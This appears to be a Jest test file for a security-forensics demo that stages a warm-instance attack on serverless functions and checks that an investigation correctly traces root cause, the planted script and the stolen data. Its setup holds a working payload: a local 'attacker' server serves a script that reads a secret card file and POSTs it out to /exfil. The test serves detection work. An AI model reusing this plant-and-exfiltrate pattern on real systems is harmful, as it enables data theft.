// The demo's conclusion (scripts/demo/conclude.ts) from a real run's store: the real collector, two
// functions under the real fwatchdog (provenance and audit on) behind the local gateway, and the
// warm-instance attack in small: request one plants a script downloaded from the attacker's server,
// request two runs it, and it reads a secret file and posts it to that server. The demo's own
// investigation (scripts/demo/investigate.ts) reads the store; the conclusion must affirm each
// fact only when it holds, and say otherwise when the attack's X-Call-Ids, what the attacker
// received or the tracing view say something else.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startCollector, stopAllCollectors, type CollectorHandle } from '../support/collector';
import { stopAllWatchdogs, type WatchdogHandle } from '../support/watchdog';
import { call, waitFor } from '../support/provenance';
import { startGraphPair, type GraphPair } from '../support/graph-pair';
import type { Gateway } from '../../cli/stack/gateway';
import { openStore, type DB } from '../../collector/store/open';
import { updateGraph } from '../../collector/graph/index';
import { investigate, invocationByCallId, tracerConnects, type Investigation } from '../../scripts/demo/investigate';
import { conclude, type ConclusionInput } from '../../scripts/demo/conclude';

const TOKEN = 'demo-conclude';
const CI = process.env.CI === 'true';

let c: CollectorHandle;
let gw: Gateway;
let attacker: Server;
let dir: string;
let secret: string;
const received: Array<{ bytes: number; body: string }> = [];
let wds: WatchdogHandle[] = [];
let pair: GraphPair | undefined;
const portOf = (s: Server) => (s.address() as AddressInfo).port;

let store: DB | undefined;
let inv: Investigation;
let callIds: string[] = [];
let real: ConclusionInput;
let skipped = false;

beforeAll(async () => {
  c = await startCollector({ token: TOKEN });
  dir = mkdtempSync(join(tmpdir(), 'alastor-demo-conclude-'));
  secret = join(dir, 'cards.json');
  writeFileSync(secret, '{"4111-1111-1111-1111":{"owner":"ada"},"5500-0000-0000-0004":{"owner":"bob"}}');
  let gotIt: () => void;
  const stolen = new Promise<void>((r) => (gotIt = r));
  attacker = createServer((req, res) => {
    let b = '';
    req.on('data', (x) => (b += x));
    req.on('end', () => {
      if (req.method === 'POST') {
        received.push({ bytes: Buffer.byteLength(b), body: b });
        res.end('ok');
        gotIt();
        return;
      }
      res.end(`sleep 1\nexec ${process.execPath} -e "require('http').request({host:'127.0.0.1',port:${portOf(attacker)},method:'POST',path:'/exfil'}).end(require('fs').readFileSync('${secret}'))"\n`);
    });
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
  pair = await startGraphPair({ collectorUrl: c.url, token: TOKEN, payloadUrl: `http://127.0.0.1:${portOf(attacker)}/payload.sh`, plantPath: join(dir, 'planted.sh') });
  gw = pair.gw;
  wds = pair.wds;

  for (const step of ['none', 'one', 'two']) {
    const r = await call(`${gw.url}/function/front`, { body: JSON.stringify({ step }), headers: { 'content-type': 'application/json' } });
    if (r.status !== 200) throw new Error(`front answered ${r.status}: ${r.body.toString()}\n${wds.map((w) => w.logs()).join('\n')}`);
    callIds.push(r.headers['x-call-id'] as string);
  }
  callIds = callIds.slice(1); // the attack's two requests; the first was ordinary traffic
  await stolen;
  const port = portOf(attacker);
  await waitFor(() => c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'invocation.end'`)[0].n >= 6, 20000, 'six finished invocations');
  const audited = c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'syscall' AND function = 'front'`)[0].n;
  if (!audited && !CI) {
    console.log('skipping: no syscall events (Linux audit unavailable here), so no exfiltration connection to trace');
    skipped = true;
    return;
  }
  await waitFor(() => c.query(`SELECT 1 FROM events WHERE kind = 'syscall' AND json_extract(body, '$.syscall') = 'connect' AND json_extract(body, '$.sockaddr.port') = ?`, port).length, 20000, 'the exfiltration connect');
  await waitFor(() => c.query(`SELECT 1 FROM events WHERE kind = 'syscall' AND body LIKE ?`, `%${secret}%`).length, 20000, 'the read of the secret');
  // Beside the running collector (WAL): stopping it removes its folder.
  store = openStore(c.db);
  updateGraph(store);
  inv = investigate(store, `127.0.0.1:${port}`);
  const writer = inv.files[0]?.writtenBy?.invocation;
  const runner = inv.files[0]?.usedBy?.invocation;
  real = {
    investigation: inv,
    pathLevel: inv.trace.pathLevel,
    attack: {
      one: { callId: callIds[0], invocation: invocationByCallId(store, callIds[0]) },
      two: { callId: callIds[1], invocation: invocationByCallId(store, callIds[1]) },
    },
    received,
    secret: { name: 'the card file', holder: 'its owner', content: readFileSync(secret, 'utf8') },
    tracesLinked: writer && runner ? tracerConnects(store, writer, runner) : undefined,
  };
}, 150000);

afterAll(async () => {
  store?.close();
  await stopAllWatchdogs();
  await pair?.close();
  attacker?.close();
  await c?.stop();
  await stopAllCollectors();
  rmSync(dir, { recursive: true, force: true });
});

const maybe = (name: string, fn: () => void) => test(name, () => (skipped ? undefined : fn()));

maybe('what the run did, every sentence checked and affirmed', () => {
  const k = conclude(real);
  expect(k.checks).toEqual({ rootIsAttackOne: true, plantedInAttackOne: true, ranInAttackTwo: true, ranLaterOnSameInstance: true, stolenIsSecret: true, tracerSeesNoLink: true });
  const one = real.attack.one!.invocation!;
  const two = real.attack.two!.invocation!;
  expect(k.answer[0]).toMatch(new RegExp(`^root cause: request X-Call-Id=${callIds[0]} \\(POST / -> front, invocation ${one.invocation} at .* UTC\\), the attacker's first request$`));
  expect(k.answer).toContainEqual(expect.stringMatching(new RegExp(`^it planted ${dir}/planted\\.sh: written by front invocation ${one.invocation} \\(#2 on instance \\S+\\) at .*, in the attacker's first request$`)));
  expect(k.answer).toContainEqual(expect.stringMatching(new RegExp(`^a later, unrelated request ran it, on the same warm instance: front invocation ${two.invocation} \\(#3 on instance .*, in the attacker's second request$`)));
  expect(k.answer[k.answer.length - 1]).toMatch(new RegExp(`^then it sent the data out: connect 127\\.0\\.0\\.1:${portOf(attacker)} at `));
  expect(k.stolen).toBe(`the attacker received ${received[0].bytes} bytes: the card file, exactly as its owner holds it (2 rows)`);
  expect(k.tracer).toEqual(['2 separate traces with no link between the invocation that planted the file and the one that ran it: the planted file is invisible there.']);
});

maybe('the attack\'s requests the other way round: the root cause is not the first request, and the conclusion says so', () => {
  const swapped = { ...real, attack: { one: real.attack.two, two: real.attack.one } };
  const k = conclude(swapped);
  expect(k.checks).toMatchObject({ rootIsAttackOne: false, plantedInAttackOne: false, ranInAttackTwo: false });
  expect(k.answer[0]).toMatch(new RegExp(`^the root cause found \\(.*, X-Call-Id=${callIds[0]}\\) is NOT the attacker's first request \\(X-Call-Id=${callIds[1]}, front invocation `));
  expect(k.answer.join('\n')).not.toContain("the attacker's first request\n");
  expect(k.answer).toContainEqual(expect.stringMatching(new RegExp(`, NOT in the attacker's first request \\(X-Call-Id=${callIds[1]}\\)$`)));
  expect(k.answer).toContainEqual(expect.stringMatching(new RegExp(`, NOT in the attacker's second request \\(X-Call-Id=${callIds[0]}\\)$`)));
});

maybe('what the attacker received is not the secret, or the secret cannot be read, or nothing came', () => {
  const other = conclude({ ...real, received: [{ bytes: 2, body: '{}' }] });
  expect(other.checks.stolenIsSecret).toBe(false);
  expect(other.stolen).toBe('the attacker received 2 bytes, which are NOT the card file as its owner holds it');
  const unread = conclude({ ...real, secret: { ...real.secret, content: undefined } });
  expect(unread.checks.stolenIsSecret).toBeUndefined();
  expect(unread.stolen).toBe(`the attacker received ${received[0].bytes} bytes; the card file could not be read from its owner to compare them with`);
  expect(conclude({ ...real, received: [] }).stolen).toBe('the attacker received nothing');
});

maybe('a tracing view that links the two, and an attack whose call ids were not recorded', () => {
  const linked = conclude({ ...real, tracesLinked: true });
  expect(linked.checks.tracerSeesNoLink).toBe(false);
  expect(linked.tracer[0]).toMatch(/^the tracing view itself links the invocation that planted the file with the one that ran it/);
  const blind = conclude({ ...real, attack: {} });
  expect(blind.checks).toMatchObject({ rootIsAttackOne: undefined, plantedInAttackOne: undefined, ranInAttackTwo: undefined });
  expect(blind.answer[0]).toMatch(/^root cause found: .*; the attacker's first request has no X-Call-Id to check it against$/);
  expect(blind.answer.join('\n')).not.toMatch(/attacker's (first|second) request(,|\)|$)/m);
});
